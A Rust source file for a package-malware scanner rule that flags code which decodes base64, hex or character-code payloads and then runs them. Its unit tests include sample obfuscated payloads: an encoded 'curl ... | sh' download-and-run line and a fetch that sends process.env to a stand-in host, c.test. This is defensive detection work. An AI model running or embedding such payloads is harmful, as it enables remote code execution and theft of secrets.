use apa_model::{Confidence, Severity};

use super::{Hit, Rule, RuleInfo, carried, is_bundle, proof};
use crate::act::ActKind;
use crate::flow::Source;
use crate::package::{Package, When};

pub(crate) struct CodeRunsDecoded;

static INFO: RuleInfo = RuleInfo {
    id: "code-runs-decoded",
    title: "Code decodes something and runs it",
    severity: Severity::High,
    confidence: Confidence::High,
    attack: &["T1027", "T1140"],
    explanation: "A constant, or a file of the package, is decoded (base64, hex, compression, character codes, a \
                  code object) and run. What is inside is looked into by every other rule. Text that is run as it \
                  stands, as build scripts run their version file, is left alone.",
};

impl Rule for CodeRunsDecoded {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn hits(&self, package: &Package) -> Vec<Hit> {
        const DECODED: &[Source] = &[Source::Decoded, Source::Blob];
        package
            .acts()
            .filter(|act| matches!(act.kind, ActKind::Eval | ActKind::Load))
            .filter(|act| DECODED.iter().any(|source| act.taints.has(*source)))
            .map(|act| {
                let when = package.when(act);
                let layers = act.taints.of(Source::Decoded).count();
                let clause = format!(
                    "decodes something ({}) and runs it {}",
                    carried(act, DECODED),
                    when.words()
                );
                let vague = is_bundle(package, act) && when < When::Start;
                let (severity, confidence) = match (when.by_itself(), layers) {
                    _ if vague => (Severity::Low, Confidence::Medium),
                    (true, 1..) => (Severity::High, Confidence::High),
                    (true, 0) | (false, 2..) => (Severity::High, Confidence::Medium),
                    (false, _) => (Severity::Medium, Confidence::High),
                };
                Hit::new(severity, confidence, clause)
                    .with(proof(package, act, "run here", DECODED))
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, line, quiet};

    #[test]
    fn layers_are_unwrapped_and_the_innermost_is_judged_as_well() {
        // exec(base64("import os;os.system('curl -s http://c.test/a|sh')"))
        let code = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vYy50ZXN0L2F8c2gnKQ=='))";
        let finding = found("code-runs-decoded", &[("a/__init__.py", code)]);
        assert_eq!(line(&finding), ("a/__init__.py".to_owned(), 2));
        let inner = found("code-runs-download", &[("a/__init__.py", code)]);
        assert_eq!(line(&inner), ("a/__init__.py".to_owned(), 2));
    }

    #[test]
    fn character_codes_are_spelled_out() {
        // String.fromCharCode of: fetch("http://c.test/"+JSON.stringify(process.env))
        let text = "fetch('http://c.test/'+JSON.stringify(process.env))";
        let codes: Vec<String> = text.bytes().map(|byte| byte.to_string()).collect();
        let code = format!("eval(String.fromCharCode({}))", codes.join(","));
        found(
            "code-sends-environment",
            &[("package.json", "{}"), ("index.js", &code)],
        );
        let codes: Vec<String> = text.bytes().map(|byte| (byte ^ 7).to_string()).collect();
        let code = format!(
            "eval([{}].map(c => String.fromCharCode(c ^ 7)).join(''))",
            codes.join(",")
        );
        found(
            "code-runs-decoded",
            &[("package.json", "{}"), ("index.js", &code)],
        );
    }

    #[test]
    fn a_version_file_and_plain_text_are_left_alone() {
        quiet(
            "code-runs-decoded",
            &[
                (
                    "setup.py",
                    "exec(open('a/version.py').read())\neval('1 + 1')",
                ),
                (
                    "a/__init__.py",
                    "import base64\nLOGO = base64.b64decode('aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=')",
                ),
            ],
        );
    }
}
